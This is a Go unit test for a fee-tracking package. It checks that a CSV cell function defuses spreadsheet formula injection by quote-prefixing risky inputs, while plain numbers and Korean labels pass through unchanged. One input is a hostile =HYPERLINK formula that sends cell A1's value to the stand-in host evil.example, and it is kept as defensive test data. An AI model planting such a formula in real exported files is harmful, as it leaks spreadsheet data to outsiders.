package fees

import "testing"

func TestCSVCellDefusesFormulas(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"+1+2":     "'+1+2",
		"-2+3":     "'-2+3",
		"@SUM(A1)": "'@SUM(A1)",
		"\tx":      "'\tx",
		"\rx":      "'\rx",
		"-5000":    "-5000",
		"+82.5":    "+82.5",
		"코트 대여":    "코트 대여",
		"":         "",
		"a=b":      "a=b",
		"간식 = 3만원": "간식 = 3만원",
	} {
		if got := cell(in); got != want {
			t.Errorf("cell(%q) = %q, want %q", in, got, want)
		}
	}
}
